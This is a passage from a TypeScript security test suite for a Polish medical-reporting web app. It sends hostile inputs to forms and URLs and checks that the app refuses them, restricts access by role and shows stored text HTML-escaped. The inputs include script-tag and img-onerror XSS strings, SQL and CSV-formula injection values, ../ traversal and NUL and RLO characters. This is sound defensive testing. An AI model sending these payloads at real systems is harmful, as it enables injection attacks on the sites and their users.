        ['comment NUL', { uwaga: `Uwaga${NUL}` }],
        ['comment 100 KB', { uwaga: BIG }],
        ['comment 2001 characters', { uwaga: 'ł'.repeat(2001) }],
        ['comment U+202E', { uwaga: `Uwaga ${RLO}txet` }],
        ['comment C1 control', { uwaga: 'Uwaga\u0085' }],
        ['unknown cell', { komorka1: 'D9.99', tresc1: 'x' }],
        ['cell __proto__', { komorka1: '__proto__', tresc1: 'x' }],
        ['cell constructor', { komorka1: 'constructor', tresc1: 'x' }],
        ['cell script', { komorka1: XSS, tresc1: 'x' }],
        ['cell comment without a cell', { tresc2: 'Sprawdź' }],
        ['cell comment NUL', { komorka1: 'D1.01.1', tresc1: `x${NUL}` }],
        ['cell comment 501 characters', { komorka1: 'D1.01.1', tresc1: 'x'.repeat(501) }],
        ['cell comment 100 KB', { komorka1: 'D1.01.1', tresc1: BIG }],
        ['cell comment U+202E', { komorka1: 'D1.01.1', tresc1: `x${RLO}` }],
        ['typed script kept as text', { uwaga: `${XSS}${NUL}`, komorka1: 'D1.01.1', tresc1: `${ATTR}${NUL}` }],
      ];
      for (const [label, patch] of cases) {
        const res = await formRefused(zofia, url, body(patch, await rev()), label);
        if (label === 'typed script kept as text' && res.statusCode === 400 && !XSS_ESCAPED.test(res.body))
          problems.push('the typed comment is not shown again escaped');
      }
      for (const [label, json] of [
        ['JSON null', null],
        ['JSON array', ['zwroc']],
        ['decision as a number', { decyzja: 1, uwaga: 'x' }],
        ['comment as an object', { decyzja: 'zwroc', uwaga: { a: 1 } }],
      ] as const)
        await refused(zofia, 'POST', url, { json: json && !Array.isArray(json) ? { rewizja: await rev(), ...json } : json }, [400], label);
      await refused(zofia, 'POST', url, { raw: '', type: 'application/x-www-form-urlencoded' }, [400], 'empty body');
      // the revision: a valid decision from a stale, missing or garbled page is not taken
      const approve = { decyzja: 'zatwierdz', uwaga: '' };
      await refused(zofia, 'POST', url, body(approve, String(Number(await rev()) - 1)), [409], 'stale rewizja');
      await refused(zofia, 'POST', url, body(approve, ''), [400], 'empty rewizja');
      await refused(zofia, 'POST', url, { form: { decyzja: 'zatwierdz' } }, [400], 'no rewizja');
      await refused(zofia, 'POST', url, { json: { decyzja: 'zatwierdz', rewizja: Number(await rev()) } }, [400], 'rewizja as a JSON number');
      // other people: the filler, Pracownik CeZ, another unit's filler, nobody
      for (const [who, allowed, name] of [
        [robert, [303, 403], 'the unit’s filler'],
        [mariaCez, [403], 'Pracownik CeZ'],
        [mariaStarostwo, [404], 'filler of another unit'],
        [noProfile, [303, 404], 'no profile'],
        [anonymous, [303, 403], 'anonymous'],
      ] as const) {
        await refused(who, 'POST', url, body(approve, await rev()), [...allowed], `${name}, approve`);
        await refused(who, 'POST', url, body({ decyzja: 'x' }, await rev()), [...allowed], `${name}, form with errors`);
      }
      // returned with a script in every comment: 303, and the filler sees text
      const ok = await send(
        zofia,
        'POST',
        url,
        body({ uwaga: `${XSS}\n${CSV}\n${EMOJI} ${COMBINING}`, komorka1: 'D1.01.1', tresc1: ATTR, komorka2: 'D0.03', tresc2: XSS }, await rev()),
      );
      assert.equal(ok.statusCode, 303, ok.body.slice(0, 500));
      assert.equal((await row()).status, 'do_korekty');
      const mine = await send(robert, 'GET', `/sprawozdania/${reportId}`);
      assert.equal(mine.statusCode, 200);
      assert.match(mine.body, /data-qa="return-comments"[\s\S]*?&lt;script(&gt;|>)alert\(1\)/, 'the general comment, escaped');
      assert.match(
        mine.body,
        /data-qa="history"[\s\S]*?&lt;script(&gt;|>)alert\(1\)[\s\S]*?&#34;(&gt;|>)&lt;img src=x onerror=alert\(1\)/,
        'the history, escaped',
      );
      const section = await send(robert, 'GET', `/sprawozdania/${reportId}/dzial/D1`);
      assert.equal(section.statusCode, 200);
      assert.match(section.body, /Uwaga weryfikującego:<\/strong>\s*<span>&#34;(&gt;|>)&lt;img/, 'the cell comment, escaped');
      // "Dziennik zdarzeń" shows the decision's comments among the entry's details: as text too
      const audit = await send(jan, 'GET', `/zarzadzanie/dziennik?obiekt=${reportId}&akcja=report.return`);
      assert.equal(audit.statusCode, 200);
      assert.match(audit.body, /&#34;(&gt;|>)&lt;img src=x onerror=alert\(1\)/, 'the cell comment in the audit details, escaped');
    }),
  );

  it(
    'a correction: hostile reasons are refused with the form; the reason that passes is shown escaped; versions and differences with hostile numbers',
    collecting(async () => {
      // the demo approved report of the Starostwo (version 1), as Administrator CeZ
      const id = demo.reopen;
      const url = `/sprawozdania/${id}/korekta`;
      const body = (powod: string | readonly string[], revision: string) => ({ form: { rewizja: revision, powod } });
      for (const [label, v] of [
        ['empty', ''],
        ['spaces', ' \n '],
        ['NUL', `Powód${NUL}`],
        ['100 KB', BIG],
        ['1001 characters', 'ś'.repeat(1001)],
        ['repeated', ['a', 'b']],
        ['U+202E', `Powód ${RLO}dówop`],
        ['C1 control', 'Powód\u0090'],
        ['script with NUL', `${XSS}${NUL}`],
      ] as const) {
        const res = await formRefused(jan, url, body(v, await rev(id)), `reason ${label}`);
        if (label === 'script with NUL' && res.statusCode === 400 && !XSS_ESCAPED.test(res.body)) problems.push('the typed reason is not shown again escaped');
      }
      for (const [label, json] of [
        ['JSON null', null],
        ['JSON array', ['x']],
        ['reason as a number', { powod: 42 }],
      ] as const)
        await refused(jan, 'POST', url, { json: json && !Array.isArray(json) ? { rewizja: await rev(id), ...json } : json }, [400], label);
      const reason = `${XSS} ${CSV} ${EMOJI}`;
      // a page rendered before someone else changed the report (its revision moved on meanwhile)
      const stale = await rev(id);
      await t.database.db
        .update(reports)
        .set({ revision: sql`${reports.revision} + 1` })
        .where(eq(reports.id, id));
      await refused(jan, 'POST', url, body(reason, stale), [409], 'stale rewizja');
      await refused(jan, 'POST', url, { form: { powod: reason } }, [400], 'no rewizja');
      await refused(jan, 'POST', url, body(reason, '1.0'), [400], 'garbage rewizja');
      for (const [who, allowed, name] of [
        [robert, [404], 'filler of another unit'],
        [mariaStarostwo, [303, 403], 'the unit’s filler'],
        [mariaCez, [403], 'Pracownik CeZ'],
        [noProfile, [303, 404], 'no profile'],
        [anonymous, [303, 403], 'anonymous'],
      ] as const) {
        await refused(who, 'POST', url, body(reason, await rev(id)), [...allowed], name);
        await refused(who, 'POST', url, body('', await rev(id)), [...allowed], `${name}, no reason`);
      }
      const approved = await row(id);
      const ok = await send(jan, 'POST', url, body(reason, await rev(id)));
      assert.equal(ok.statusCode, 303, ok.body.slice(0, 500));
      const current = (await row(id)).version;
      assert.equal(current, approved.version + 1);
      for (const who of [jan, mariaStarostwo]) {
        const page = await send(who, 'GET', `/sprawozdania/${id}`);
        assert.equal(page.statusCode, 200);
        assert.match(page.body, /data-qa="versions"[\s\S]*?otwarto korektę \(wersja \d+\): &lt;script(&gt;|>)alert\(1\)/, 'the reason by the version, escaped');
        assert.match(page.body, /data-qa="history"[\s\S]*?&lt;script(&gt;|>)alert\(1\)/, 'the reason in the history, escaped');
      }

      // versions: only approved ones exist (up to the one just reopened); anything else is no page
      for (const v of [
        '0',
        '-1',
        String(current),
        String(current + 1),
        '10001',
        '99999999999999999999',
        '1e400',
        'NaN',
        'abc',
        '1.5',
        '%00',
        '1%00',
        '%E2%80%AE1',
        'Infinity',
        '-0',
      ])
        await getOnly(jan, `/sprawozdania/${id}/wersje/${v}`, [404], `version ${v}`);
      for (const v of ['1', '01', '1.0', '1e0', '0x1', '1%20']) await getOnly(jan, `/sprawozdania/${id}/wersje/${v}`, [200, 404], `version ${v}`);
      await getOnly(robert, `/sprawozdania/${id}/wersje/1`, [404], 'version, filler of another unit');
      await getOnly(mariaCez, `/sprawozdania/${id}/wersje/1`, [403], 'version, Pracownik CeZ');
      await getOnly(anonymous, `/sprawozdania/${id}/wersje/1`, [303], 'version, anonymous');
      // differences: a number that names no version is version 1, a version that does not exist is no page
      for (const q of [
        'od=NaN&do=NaN',
        'od=-1&do=0',
        'od=1e309&do=1',
        'od=abc&do=%00',
        'od=1&od=2&do=2',
        'od[]=1&do[x]=2',
        `od=${encodeURIComponent(XSS)}&do=2`,
        '',
        'od=1.5&do=2',
        `od=${'9'.repeat(1000)}&do=2`,
      ])
        await getOnly(jan, `/sprawozdania/${id}/roznice?${q}`, [200], `diff ${q.slice(0, 40)}`);
      for (const q of ['od=999&do=1', 'od=1&do=10000', `od=${current + 1}&do=${current}`])
        await getOnly(jan, `/sprawozdania/${id}/roznice?${q}`, [404], `diff ${q}`);
      await getOnly(robert, `/sprawozdania/${id}/roznice?od=1&do=2`, [404], 'diff, filler of another unit');
      await getOnly(mariaCez, `/sprawozdania/${id}/roznice?od=1&do=2`, [403], 'diff, Pracownik CeZ');
    }),
  );

  it(
    'a unit’s ankieta and obligations: hostile years and ids answer 404; hostile answers are refused with the form; nobody else corrects',
    collecting(async () => {
      const path = (unit: string, y: string | number) => `/sprawozdania/jednostka/${unit}/${y}`;
      for (const [y, label] of [
        ['1999', 'year 1999'],
        ['2101', 'year 2101'],
        ['abc', 'year abc'],
        ['-2025', 'negative year'],
        ['2025.5', 'fractional year'],
        ['99999999999999999999', 'huge year'],
        ['%00', 'NUL'],
        [`${year}%00`, 'year + NUL'],
        ['NaN', 'NaN'],
        ['Infinity', 'Infinity'],
        [encodeURIComponent(XSS), 'script'],
      ] as const) {
        await getOnly(zofia, path(torunUnitId, y), [404], label);
        await refused(zofia, 'POST', path(torunUnitId, y), { form: { AMB: 'T' } }, [404], label);
      }
      // spellings of a valid year are the same page or none
      for (const y of [`${year}.0`, ` ${year}`, '2e3', `0${year}`]) await getOnly(zofia, path(torunUnitId, encodeURIComponent(y)), [200, 404], `year "${y}"`);
      for (const [unit, allowed, label] of [
        [randomUUID(), [404], 'random uuid'],
        ['abc', [404], 'not a uuid'],
        [`${torunUnitId}%00`, [404], 'NUL'],
        [torunUnitId.toUpperCase(), [200, 404], 'upper-case uuid'],
      ] as const)
        await getOnly(zofia, path(unit, year), [...allowed], label);

      const url = path(torunUnitId, year);
      assert.equal((await send(zofia, 'GET', url)).statusCode, 200);
      for (const [label, v] of [
        ['NUL', `T${NUL}`],
        ['U+202E', `${RLO}T`],
        ['combining', 'N\u0301'],
        ['emoji', '✅'],
        ['100 KB', BIG],
        ['script', XSS],
        ['CSV', '=1+1'],
        ['SQL', SQLI],
        ['repeated', ['T', 'N']],
        ['empty', ''],
      ] as const)
        await formRefused(zofia, url, { form: { AMB: v } }, `AMB ${label}`);
      for (const [label, json] of [
        ['number', { AMB: 1 }],
        ['array', { AMB: ['T'] }],
        ['JSON null', null],
        ['JSON array', ['T']],
      ] as const)
        await formRefused(zofia, url, { json }, `JSON ${label}`);
      for (const [who, allowed, name] of [
        [robert, [403], 'the unit’s filler (the policy refuses a correction)'],
        [mariaStarostwo, [404], 'filler of another unit'],
        [mariaCez, [303, 403, 404], 'Pracownik CeZ'],
        [noProfile, [303, 404], 'no profile'],
        [anonymous, [303, 403], 'anonymous'],
      ] as const) {
        await refused(who, 'POST', url, { form: { AMB: 'N' } }, [...allowed], name);
        await refused(
          who,
          'POST',
          url,
          { form: { AMB: XSS } },
          [...allowed, 400].filter((s) => s !== 400 || who !== robert),
          `${name}, bad answer`,
        );
      }
    }),
  );

  it(
    '"Terminy sprawozdań": hostile filters, forms and years; hostile dates and sources refused with the form; the source that passes is shown escaped',
    collecting(async () => {
      for (const p of ['formularz', 'rok', 'wynik'])
        for (const [label, v] of [
          ['NUL', `MZ-11${NUL}`],
          ['U+202E', `${RLO}MZ-11`],
          ['script', XSS],
          ['100 KB', BIG],
          ['SQL', SQLI],
          ['year 1999', '1999'],
          ['year 2101', '2101'],
          ['emoji', EMOJI],
        ] as const)
          await getOnly(jan, `/zarzadzanie/terminy?${p}=${encodeURIComponent(v)}`, [200], `${p} ${label}`);
      await getOnly(jan, '/zarzadzanie/terminy?formularz=MZ-11&formularz=MZ-88&rok=2025&rok[x]=1', [200], 'repeated');

      for (const [form, y, label] of [
        ['mz-11', '2025', 'lower-case form'],
        ['MZ-11%00', '2025', 'NUL in the form'],
        ['MZ-11%E2%80%AE', '2025', 'U+202E in the form'],
        ['..%2F', '2025', '../'],
        ['M'.repeat(31), '2025', 'long form'],
        ['MZ-99', '2025', 'unknown form'],
        [encodeURIComponent(XSS), '2025', 'script form'],
        ['MZ-11', '1999', 'year 1999'],
        ['MZ-11', '2101', 'year 2101'],
        ['MZ-11', 'abc', 'year abc'],
        ['MZ-11', '99999', 'five digits'],
        ['MZ-11', '-202', 'negative'],
        ['MZ-11', '2025.0', 'fractional'],
        ['MZ-11', '2025%00', 'NUL in the year'],
      ] as const) {
        await getOnly(jan, `/zarzadzanie/terminy/${form}/${y}`, [404], label);
        await refused(jan, 'POST', `/zarzadzanie/terminy/${form}/${y}`, { form: { jednostka: '15.04.2026', nadzor: '30.06.2026', zrodlo: 'x' } }, [404], label);
      }

      const url = '/zarzadzanie/terminy/MZ-11/2025';
      const good = { jednostka: '15.04.2026', nadzor: '30.06.2026', cez: '31.07.2026', zrodlo: 'Rozporządzenie' };
      const cases: [string, Record<string, string | readonly string[]>][] = [];
      for (const f of ['jednostka', 'nadzor', 'cez', 'zrodlo']) {
        cases.push([`${f} NUL`, { [f]: `${good[f as keyof typeof good]}${NUL}` }]);
        cases.push([`${f} U+202E`, { [f]: `${RLO}${good[f as keyof typeof good]}` }]);
        cases.push([`${f} 100 KB`, { [f]: BIG }]);
        cases.push([`${f} repeated`, { [f]: [good[f as keyof typeof good], good[f as keyof typeof good]] }]);
      }
      for (const f of ['jednostka', 'nadzor', 'cez'])
        for (const [label, v] of [
          ['script', XSS],
          ['31 February', '31.02.2026'],
          ['year 1999', '15.04.1999'],
          ['emoji', '15.04.2026🏥'],
          ['full-width digits', '１５.０４.２０２６'],
          ['SQL', SQLI],
        ] as const)
          cases.push([`${f} ${label}`, { [f]: v }]);
      cases.push(['no source', { zrodlo: '' }]);
      cases.push(['script in the source, a bad date', { zrodlo: XSS, jednostka: 'x' }]);
      for (const [label, patch] of cases) {
        const res = await formRefused(jan, url, { form: { ...good, ...patch } }, label);
        if (label.startsWith('script in the source') && res.statusCode === 400 && !XSS_ESCAPED.test(res.body))
          problems.push('the typed source is not shown again escaped');
      }
      for (const [label, json] of [
        ['JSON null', null],
        ['JSON array', [good]],
        ['numbers', { jednostka: 15042026, nadzor: 30062026, zrodlo: 1 }],
        ['objects', { ...good, zrodlo: { a: 1 } }],
      ] as const)
        await formRefused(jan, url, { json }, label);
      await formRefused(jan, url, { raw: '', type: 'application/x-www-form-urlencoded' }, 'empty body');
      for (const [who, allowed, name] of [
        [robert, [403], 'filler'],
        [zofia, [403], 'the office'],
        [mariaCez, [403], 'Pracownik CeZ'],
        [noProfile, [303, 403], 'no profile'],
        [anonymous, [303, 403], 'anonymous'],
      ] as const) {
        await getOnly(who, url, [...allowed], name);
        await refused(who, 'POST', url, { form: { ...good, zrodlo: XSS } }, [...allowed], name);
      }
      // a source with a script and a formula is saved as text and shown escaped
      const saved = await send(jan, 'POST', url, { form: { ...good, zrodlo: `${XSS} ${CSV}` } });
      assert.equal(saved.statusCode, 303, saved.body.slice(0, 300));
      const page = await send(jan, 'GET', url);
      assert.equal(page.statusCode, 200);
      assert.ok(XSS_ESCAPED.test(page.body), 'the source, escaped');
      await getOnly(jan, '/zarzadzanie/terminy?formularz=MZ-11&rok=2025&wynik=zapisano', [200], 'list after saving');
    }),
  );
});
